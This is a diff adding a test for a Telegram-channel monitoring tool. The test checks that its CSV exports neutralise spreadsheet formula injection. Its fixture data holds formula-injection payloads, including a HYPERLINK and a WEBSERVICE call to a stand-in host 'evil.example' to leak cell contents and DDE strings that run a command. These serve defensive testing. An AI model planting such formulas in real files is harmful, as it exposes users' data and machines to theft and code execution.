@@ -12,10 +12,11 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner, Result
-from test_archive import WATCHLIST, fill
+from test_archive import T0, WATCHLIST, fill
 
 from monitor.cli import main
 from monitor.config import load_settings
+from monitor.posts import Post
 from monitor.runtime import open_runtime
 
 
@@ -221,3 +222,47 @@ def test_status_shows_configured_source_and_leases(write_config: Callable[..., P
     leased = next(line for line in table if "host-a:4242" in line)
     assert "LEASE" in head and leased.index("host-a:4242") == head.index("LEASE")
     assert next(line for line in table if line.startswith(doc["channels"][1]["channel"]))[head.index("LEASE")] == "-"
+
+
+HOSTILE_POSTS = [
+    ("delovoy", 1, 0, '=HYPERLINK("http://evil.example/?leak="&A1,"Газпром: подробности")'),
+    ("delovoy", 2, 0, "+1+cmd|' /C calc'!A0 Газпром"),
+    ("delovoy", 3, 1, "-2+3 Газпром"),
+    ("birzha", 4, 2, "@SUM(1+1)*cmd|' /C calc'!A0 Газпром"),
+    ("birzha", 5, 3, "\t=1+1 Газпром"),
+    ("birzha", 6, 3, "\r=1+1 Газпром"),
+    ("birzha", 7, 4, "Газпром: обычный текст, = в середине не опасен"),
+]
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(write_config: Callable[..., Path], db_url: str) -> None:
+    path = write_config(WATCHLIST, db_url)
+
+    async def setup() -> None:
+        async with open_runtime(load_settings(path)) as rt:
+            await fill(rt, HOSTILE_POSTS)
+            private = await rt.store.upsert_channel(tg_id=5555, title='=WEBSERVICE("http://evil.example/")')
+            await rt.ingestor.ingest(private, [Post(message_id=8, date=T0, text="Газпром в закрытом канале")])
+
+    asyncio.run(setup())
+
+    def cli(*args: str) -> str:
+        r = CliRunner().invoke(main, ["--config", str(path), *args], catch_exceptions=False)
+        assert r.exit_code == 0, r.output
+        return r.stdout_bytes.decode()
+
+    texts = {d["message_id"]: d["text"] for d in jsonl(cli("export", "--format", "jsonl"))}
+    assert texts[1].startswith("=HYPERLINK") and texts[5].startswith("\t")  # JSON keeps the exact text
+    for args in (("export",), ("export", "--entity", "Газпром"), ("mentions",), ("search", "Газпром"),
+                 ("stats", "--by", "day")):
+        rows = list(csv.reader(io.StringIO(cli(*args, "--format", "csv"), newline="")))
+        cells = [c for r in rows[1:] for c in r]
+        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                              and c not in ("@delovoy", "@birzha")], (args, rows)
+    table = {int(r["message_id"]): r for r in csv.DictReader(io.StringIO(cli("export", "--format", "csv"),
+                                                                         newline=""))}
+    for mid, text in texts.items():  # the neutralised cell is the text behind one apostrophe
+        assert table[mid]["text"] == (text if mid in (7, 8) else "'" + text)
+    assert table[1]["channel"] == "@delovoy"  # a plain @username is not a formula: left as it is
+    assert table[8]["channel"] == "'=WEBSERVICE(\"http://evil.example/\")"  # a channel title is
+    assert table[4]["channel"] == "@birzha"
